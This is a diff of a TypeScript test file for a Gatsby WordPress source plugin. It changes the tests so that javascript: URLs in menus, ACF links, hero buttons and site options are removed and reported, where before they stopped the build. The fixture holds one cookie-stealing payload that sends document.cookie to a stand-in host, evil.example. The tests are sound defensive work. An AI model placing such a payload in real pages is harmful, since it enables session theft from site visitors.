@@ -1,3 +1,4 @@
+import type { ItemNotice } from '../../plugins/gatsby-source-wp-rest/src/notices/item-notices'
 import { buildNodeInputs } from '../../plugins/gatsby-source-wp-rest/src/nodes/build-nodes'
 import { checkedLink, remoteSupportProblem } from '../../plugins/gatsby-source-wp-rest/src/normalize/url-gate'
 import { CMS, rawContent, restPost } from './support/rest-fixtures'
@@ -45,40 +46,55 @@ describe('the URL gate (links outside sanitised HTML)', () => {
   })
 })
 
-describe('a build with a javascript: URL fails, naming the field', () => {
+describe('a javascript: URL costs its field (or menu item), never the build, and is named', () => {
   const attack = 'javascript:fetch("//evil.example/"+document.cookie)'
-  const build = (content: ReturnType<typeof rawContent>) => () => buildNodeInputs(content, [CMS])
+  const build = (content: ReturnType<typeof rawContent>) => {
+    const notices: ItemNotice[] = []
+    const nodes = buildNodeInputs(content, [CMS], [], { notices })
+    return { fields: (key: string) => nodes.find((node) => node.key === key)?.fields, notices }
+  }
+  const named = (field: string) => [expect.objectContaining({ field, value: attack, outcome: 'cut' })]
 
-  it('in a menu item', () => {
-    const menu = [{ ID: 1003, title: 'Inloggen', url: attack, target: '', classes: '', children: [] }]
-    expect(build(rawContent({ menus: { 'main-menu': menu } }))).toThrow(
-      `Malformed menu item main-menu item 1003: field "url" must be a site path or an https:, http:, mailto: or tel: address, got ${JSON.stringify(attack)}`,
+  it('in a menu item: the menu is published without it', () => {
+    const menu = [
+      { ID: 1003, title: 'Inloggen', url: attack, target: '', classes: '', children: [] },
+      { ID: 1004, title: 'Contact', url: '/contact', target: '', classes: '', children: [] },
+    ]
+    const { fields, notices } = build(rawContent({ menus: { 'main-menu': menu } }))
+    expect((fields('WpMenu:main-menu')?.items as Array<{ title: string }>).map((item) => item.title)).toEqual(
+      ['Contact'],
     )
+    expect(notices).toEqual([
+      expect.objectContaining({ restType: 'menu', id: 1003, field: 'url', outcome: 'left-out' }),
+    ])
   })
 
   it('in an ACF link (a partner site)', () => {
     const partner = restPost({ id: 401, type: 'partners', acf: { website: attack, description: 'x' } })
-    const lists = { ...rawContent().lists, partners: [partner] }
-    expect(build(rawContent({ lists }))).toThrow('Malformed partners item 401: field "acf.website" must be')
+    const { fields, notices } = build(rawContent({ lists: { ...rawContent().lists, partners: [partner] } }))
+    expect(fields('WpPartner:401')).toMatchObject({ website: null, description: 'x' })
+    expect(notices).toEqual(named('acf.website'))
   })
 
   it('in the front page hero button', () => {
     const frontPage = { id: 2, title: 'Home', acf: { hero_button: { title: 'Kom', url: attack } } }
-    expect(build(rawContent({ frontPage }))).toThrow(
-      'Malformed front-page item front-page: field "acf.hero_button.url" must be',
-    )
+    const { fields, notices } = build(rawContent({ frontPage }))
+    expect(fields('WpFrontPage:front-page')?.heroButton).toBeNull()
+    expect(notices).toEqual([
+      expect.objectContaining({ restType: 'pages', id: 2, field: 'acf.hero_button.url' }),
+    ])
   })
 
   it('in a social link of the site options', () => {
-    const options = { acf: { facebook: attack } }
-    expect(build(rawContent({ options }))).toThrow('Malformed options item options: field "facebook" must be')
+    const { fields, notices } = build(rawContent({ options: { acf: { facebook: attack } } }))
+    expect(fields('WpSiteOptions:options')?.facebook).toBeNull()
+    expect(notices).toEqual(named('facebook'))
   })
 
   it('in the remote-support option', () => {
-    const options = { acf: { remote_support_url: attack } }
-    expect(build(rawContent({ options }))).toThrow(
-      'Malformed options item options: field "remote_support_url" must be an https: address',
-    )
+    const { fields, notices } = build(rawContent({ options: { acf: { remote_support_url: attack } } }))
+    expect(fields('WpSiteOptions:options')?.remoteSupportUrl).toBeNull()
+    expect(notices).toEqual(named('remote_support_url'))
   })
 })
 
